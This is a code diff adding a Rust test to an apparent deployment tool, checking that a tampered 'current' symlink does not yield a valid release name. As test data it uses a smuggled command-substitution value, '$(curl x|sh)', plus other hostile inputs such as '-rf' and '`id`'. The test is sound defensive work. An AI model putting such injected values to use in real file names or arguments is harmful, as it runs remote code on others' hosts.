@@ -404,6 +404,29 @@ esac"#;
 }
 
 #[test]
+fn a_tampered_current_link_names_no_previous_release() {
+    let tmp = tempfile::tempdir().unwrap();
+    let current = tmp.path().join("current");
+    std::os::unix::fs::symlink(".berth/releases/$(curl x|sh)", &current).unwrap();
+    let snapshot = Layout {
+        deploy_dir: tmp.path().display().to_string(),
+        project: "shop".into(),
+    }
+    .snapshot();
+    let out = run_with_docker("true", &snapshot);
+    let first = out.lines().next().unwrap_or_default();
+    assert_eq!(first, "$(curl x|sh)", "the host answers what the link says");
+    assert_eq!(current_release(first), None);
+    for bad in ["", "..", "-rf", "r7 r8", "a/b", "`id`"] {
+        assert_eq!(current_release(bad), None, "{bad:?}");
+    }
+    assert_eq!(
+        current_release(" 20261124T101500Z-abc1234 ").as_deref(),
+        Some("20261124T101500Z-abc1234")
+    );
+}
+
+#[test]
 fn compose_commands_pin_files_env_and_project_dir() {
     let cmd = layout().compose("r1", &["up", "-d", "--remove-orphans"]);
     assert_eq!(
